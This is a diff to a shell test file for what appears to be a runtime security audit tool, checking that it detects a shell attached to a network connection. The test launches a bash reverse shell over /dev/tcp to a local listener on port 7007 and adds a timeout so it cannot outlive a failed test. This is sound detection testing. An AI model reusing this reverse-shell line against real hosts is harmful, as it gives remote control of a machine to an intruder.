@@ -172,8 +172,10 @@ Y
 
 @test "own: --now: a shell on a connection, and nothing of the guest itself" {
 	run -0 "$KWP" audit --now -q --severity medium --filter 'not process.executable ~ ^/tmp/ and not rule.name == drift'
-	with_peer 7007 ''
-	setsid bash -c 'exec bash 0<>/dev/tcp/127.0.0.1/7007 >&0 2>&0' 3>&- &
+	timeout 90 peer 7007 '' >peer7007 3>&- &
+	until_true 20 grep -q ready peer7007
+	# It does not outlive a test that fails.
+	setsid bash -c '{ sleep 90; kill -KILL $$; } & exec bash 0<>/dev/tcp/127.0.0.1/7007 >&0 2>&0' >/dev/null 2>&1 3>&- &
 	shell=$!
 	until_true 10 bash -c "[[ \$(readlink /proc/$shell/fd/2) = socket:* ]]"
 	run -1 "$KWP" audit --now -q -o json
